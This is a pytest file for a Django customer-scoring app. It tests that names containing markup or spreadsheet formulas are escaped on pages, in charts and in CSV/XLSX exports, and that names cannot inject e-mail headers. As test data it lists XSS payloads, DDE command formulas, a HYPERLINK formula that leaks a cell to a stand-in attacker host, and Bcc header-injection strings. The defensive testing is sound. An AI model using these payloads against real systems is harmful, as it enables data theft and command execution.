"""Injection (issue 11, item 7): names that are markup or spreadsheet formulas are shown and
exported as the text they are, on the pages, in plotly's labels and in CSV/XLSX exports."""

from __future__ import annotations

import csv
import io
import json
import re
from email.utils import getaddresses

import openpyxl
import pytest
from django.test import Client

from klantbinding.lib.mail import recipient
from scoring import charts, exports
from tests.factories import CustomerFactory, assess

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="https://evil.example">klik</a>',
    '<b>vet</b> <span style="color:red">rood</span>',
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&C2,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def named(db, anne):
    """Customers named with markup and formulas, each with a score."""
    customers = []
    for name in [*MARKUP, *FORMULAS]:
        customer = CustomerFactory(name=name, account_manager=anne, sector=name[:100])
        assess(customer, {"performance": 2, "service": 5}, user=anne)
        customers.append(customer)
    return customers


def _signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize(
    "path", ["/customers/", "/dashboard/", "/dashboard/customers/?show=pearls"]
)
def test_markup_in_names_is_shown_as_text_on_the_pages(named, mira, path):
    html = _signed_in(mira).get(path).content.decode()
    for name in MARKUP:
        assert name not in html
    assert "<script>alert(1)</script>" not in html
    assert "onerror=alert(1)>" not in html


def test_markup_in_a_name_is_text_on_the_customer_page(named, anne):
    client = _signed_in(anne)
    for customer in named[: len(MARKUP)]:
        html = client.get(f"/customers/{customer.pk}/").content.decode()
        assert customer.name not in html
        assert "&lt;" in html


def _chart_texts(figure_json: str) -> list[str]:
    """Every text of a figure that plotly draws: trace texts, categories, names, ticks."""
    figure = json.loads(figure_json)
    found: list[str] = []

    def walk(value: object) -> None:
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(figure["data"])
    walk(figure["layout"])
    return found


def test_names_reach_plotly_escaped(named, mira):
    response = _signed_in(mira).get("/dashboard/")
    figures = response.context["figures"]
    texts = [t for figure in figures.values() for t in _chart_texts(figure)]
    joined = "\n".join(texts)
    assert "<a href" not in joined and "<b>" not in joined and "<span" not in joined
    assert "<script>" not in joined
    assert '&lt;a href="https://evil.example"&gt;klik&lt;/a&gt;' in joined


def test_the_customer_radar_escapes_element_names():
    figure = charts.element_radar_figure({"staff": [1.0, 2.0]}, ["<b>Prijs</b>", "<a href=x>y</a>"])
    texts = _chart_texts(charts.figure_json(figure))
    assert not any("<b>" in t or "<a " in t for t in texts)
    assert "&lt;b&gt;Prijs&lt;/b&gt;" in texts


def test_the_quadrant_chart_keeps_its_names_as_text():
    import pandas as pd

    frame = pd.DataFrame(
        {
            "name": ['<a href="https://evil.example">x</a>'],
            "revenue": [1.0],
            "band": ["red"],
            "binding_score": [20.0],
            "satisfaction": [10.0],
            "barriers": [70.0],
        },
        index=pd.Index([1], name="customer_id"),
    )
    data = json.loads(charts.figure_json(charts.satisfaction_barriers_figure(frame)))["data"]
    assert [t["text"] for t in data] == [['&lt;a href="https://evil.example"&gt;x&lt;/a&gt;']]


def _csv_cells(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";" if ";" in text.split("\n")[0] else ","))


@pytest.mark.parametrize("path", ["/dashboard/export/csv/", "/dashboard/export/xlsx/"])
def test_formulas_in_names_are_exported_as_text(named, mira, path):
    body = _signed_in(mira).get(path).content
    if path.endswith("csv/"):
        cells = [cell for row in _csv_cells(body)[1:] for cell in row]
        for name in FORMULAS:
            assert "'" + name in cells  # an apostrophe first: the spreadsheet shows text
            assert name not in cells
        assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in cells)
        assert any(re.fullmatch(r"\d+[.,]\d", cell) for cell in cells)  # numbers stay numbers
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        names = {cell.value for cell in cells if cell.data_type == "s"}
        assert set(FORMULAS) <= names  # the text as it is, stored as text
        assert not [cell.value for cell in cells if cell.data_type == "f"]


def test_the_score_export_command_writes_formulas_as_text(named):
    rows = exports.score_rows()
    text = io.StringIO()
    exports.write_csv(rows, text)
    cells = [cell for row in _csv_cells(text.getvalue().encode())[1:] for cell in row]
    assert f"'{FORMULAS[0]}" in cells
    data = io.BytesIO()
    exports.write_xlsx(rows, data)
    sheet = openpyxl.load_workbook(io.BytesIO(data.getvalue())).worksheets[0]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_actions_export_writes_formulas_as_text(named, mira):
    from tests.actions.factories import make_action

    make_action(named[len(MARKUP)], by=mira, title='=HYPERLINK("https://evil.example","x")')
    client = _signed_in(mira)
    csv_body = client.get("/actions/export/csv/").content
    cells = [cell for row in _csv_cells(csv_body)[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert "'" + '=HYPERLINK("https://evil.example","x")' in cells
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/actions/export/xlsx/").content))
    formulas = [c for row in sheet.worksheets[0].iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize(
    "name",
    ["Piet\nBcc: evil@example.com", "Jansen, Piet", 'Piet "de Baas" <evil@example.com>'],
)
def test_a_name_cannot_split_or_add_to_an_e_mail_header(name):
    from django.core.mail import EmailMessage

    to = recipient(name, "piet@example.nl")
    message = EmailMessage(subject="Hallo", body="x", to=[to]).message()  # no BadHeaderError
    headers = message.as_string().split("\n\n", 1)[0]
    assert not re.search(r"^Bcc:", headers, re.M)
    assert [address for _name, address in getaddresses([message["To"]])] == ["piet@example.nl"]


def test_an_alert_e_mail_to_a_user_with_a_newline_in_the_name_has_one_recipient(db, anne):
    from alerts.selectors.people import default_settings
    from alerts.services.delivery import _message

    anne.alert_preferences = default_settings(anne)
    anne.first_name, anne.last_name = "Anne\nBcc: evil@example.com", "Jansen, de"
    anne.save()
    message = _message(anne, "alert", {"alerts": [], "count": 0}, None).message()
    assert [a for _n, a in getaddresses([message["To"]])] == [anne.email]
    headers = message.as_string().split("\n\n", 1)[0]
    assert not re.search(r"^Bcc:", headers, re.M)
